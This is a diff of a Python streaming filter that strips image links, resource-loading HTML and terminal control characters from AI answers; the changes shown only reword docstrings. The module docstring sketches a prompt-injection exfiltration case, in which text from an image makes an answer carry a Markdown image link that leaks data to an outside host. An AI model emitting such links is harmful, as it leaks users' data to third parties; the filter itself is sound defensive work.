@@ -1,10 +1,10 @@
-"""Remove what an answer must not contain: image links, HTML that loads something, and control characters.
+"""Remove image links, HTML that loads resources and control characters from answers.
 
 An answer that quotes text from an image can be made to carry ``![](https://host/?q=...)``; a client that
 renders it sends the quoted data to that host (OWASP LLM10). Answers never need such links, since images are
 separate fields. Escape sequences and bidirectional controls would change what a terminal shows.
 
-The filter works on a stream, and gives the same result however the text is divided into pieces.
+The filter works on a stream; the result does not depend on how the text is divided into chunks.
 """
 
 from __future__ import annotations
@@ -18,7 +18,7 @@ MAX_TARGET_CHARS = 4000
 MAX_TAG_CHARS = 2000
 MAX_ESCAPE_CHARS = 300
 WINDOW = 2 + MAX_ALT_CHARS + MAX_TARGET_CHARS + MAX_TAG_CHARS
-"""Characters that decide what becomes of an image or a tag."""
+"""Characters that are significant inside an image link or a tag."""
 
 _LOADING_TAGS = frozenset(
     {"applet", "audio", "base", "body", "embed", "feimage", "form", "frame", "frameset", "iframe", "image"}
@@ -38,7 +38,7 @@ _SUSPECT = re.compile(rf"[!<]|{_CONTROLS.pattern}")
 _TAG_START = re.compile(r"<[/!?]?[A-Za-z]|<[!?/]")
 _TAG_NAME = re.compile(r"</?([A-Za-z][A-Za-z0-9]*)")
 _PLAIN_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s+[A-Za-z][A-Za-z0-9_-]*)*\s*/?>")
-"""A tag that loads nothing; anything else between angle brackets is text, in which Markdown finds images."""
+"""A tag that loads nothing; other text between angle brackets may contain Markdown images."""
 _AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]*:[^\s<>]*|[^\s<>@]+@[^\s<>@]+)>")
 
 
@@ -51,7 +51,7 @@ def filter_answer(text: str) -> str:
 
 
 class AnswerFilter:
-    """Filters one text that arrives in pieces.
+    """Filters one text that arrives in chunks.
 
     Text is held back only while it may be the beginning of something that is removed.
     """
@@ -62,10 +62,10 @@ class AnswerFilter:
         self._text = ""
         """Held back since it may be the beginning of an image or a tag."""
         self._last = ""
-        """The last character given out."""
+        """The last character emitted."""
 
     def feed(self, piece: str) -> str:
-        """Take the next piece and return what can be given out."""
+        """Take the next chunk and return the text that can be emitted."""
         self._text += self._printable(piece, is_end=False)
         return self._scan(is_end=False)
 
@@ -75,7 +75,7 @@ class AnswerFilter:
         return self._scan(is_end=True)
 
     def _printable(self, piece: str, *, is_end: bool) -> str:
-        """Take the next piece and return what is decided of it, without escape sequences and controls."""
+        """Take the next chunk and return its complete part, without escape sequences and controls."""
         text, at, kept = self._raw + piece, 0, list[str]()
         while (start := text.find("\x1b", at)) >= 0:
             kept.append(text[at:start])
@@ -110,7 +110,7 @@ class AnswerFilter:
         return "".join(given)
 
     def _give(self, given: list[str], text: str) -> None:
-        """Give text out, without letting it join what was given before to an image or a tag."""
+        """Emit text, ensuring that it does not form an image or a tag with text emitted before."""
         if not text:
             return
         if (self._last == "!" and text[0] == "[") or (
